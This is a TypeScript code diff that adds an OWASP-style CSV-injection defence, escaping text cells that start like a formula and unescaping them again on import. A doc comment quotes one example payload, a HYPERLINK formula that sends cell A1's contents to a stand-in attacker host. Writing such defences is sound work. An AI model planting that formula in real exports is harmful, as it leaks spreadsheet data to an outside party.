@@ -30,3 +30,17 @@ const sortKeys = (value: unknown): unknown => {
   }
   return value;
 };
+
+// OWASP "CSV injection": a spreadsheet runs a cell starting with one of these as a formula.
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+/**
+ * A text cell of a CSV export that a spreadsheet shows as text and never runs as a formula: a
+ * value starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'` (OWASP), so
+ * `=HYPERLINK("http://evil.example/?x="&A1,"klik")` stays the text it was. For text cells only: a
+ * number cell (`-5`) must stay a number.
+ */
+export const csvTextCell = (value: string): string => (FORMULA_START.test(value) ? `'${value}` : value);
+
+/** The value of a text cell written by `csvTextCell`, as it was typed: an import reads its own export back unchanged. */
+export const csvTextValue = (cell: string): string => (cell.startsWith("'") && FORMULA_START.test(cell.slice(1)) ? cell.slice(1) : cell);
